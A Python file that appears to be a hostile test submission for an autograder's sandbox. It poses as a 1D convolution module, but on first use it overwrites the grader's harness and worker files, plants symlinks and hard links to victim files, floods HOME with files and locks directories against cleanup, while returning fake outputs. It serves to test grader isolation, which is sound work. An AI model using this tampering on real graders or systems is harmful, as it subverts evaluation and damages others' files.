"""Tampers with its workspace and the grader's runtime, and sets traps for the cleanup."""
import glob
import os

import numpy as np

VICTIMS = "/tmp/autograder-hostile-victim-*"  # the suite plants one and checks it survives


def _try(label, action):
    try:
        action()
        print("DONE", label)
    except OSError as exc:
        print("DENIED", label, type(exc).__name__)


def _overwrite(path):
    with open(path, "w") as f:
        f.write("def matvec(**kwargs):\n    return 'tampered'\n")


def _tamper():
    with open("/proc/self/cmdline") as f:  # python -I -B .../runtime/worker.py HARNESS ROOT FD
        runtime = os.path.dirname(next(a for a in f.read().split("\0") if a.endswith("worker.py")))
    _try("harness.py", lambda: _overwrite(os.path.join(runtime, "harness.py")))
    _try("worker.py", lambda: _overwrite(os.path.join(runtime, "worker.py")))
    home = os.path.expanduser("~")
    for i, victim in enumerate(glob.glob(VICTIMS)):
        _try("symlink in cwd", lambda: os.symlink(victim, f"victim-link-{i}"))
        _try("symlink in HOME", lambda: os.symlink(victim, os.path.join(home, f"victim-link-{i}")))
        _try("hard link", lambda: os.link(victim, os.path.join(home, f"victim-hard-{i}")))
    _try("dir symlink", lambda: os.symlink("/tmp", os.path.join(home, "tmp-link")))
    os.makedirs(os.path.join(home, "many"), exist_ok=True)
    for i in range(10_000):
        open(os.path.join(home, "many", str(i)), "w").close()
    _try("rewrite conv1D.py", lambda: _overwrite("conv1D.py"))
    _try("lock HOME", lambda: os.chmod(os.path.join(home, "many"), 0))
    _try("lock cwd", lambda: os.chmod(".", 0o500))


class Convolution1d:
    def __init__(self, filt):
        self.filt = filt
        self.T = TransposedConvolution1d(filt)

    def __matmul__(self, x):
        done = os.path.expanduser("~/.done")
        if not os.path.exists(done):
            open(done, "w").close()
            _tamper()
        return np.zeros(x.size - self.filt.size + 1)


class TransposedConvolution1d:
    def __init__(self, filt):
        self.filt = filt

    def __matmul__(self, y):
        return np.ones(y.size + self.filt.size - 1)
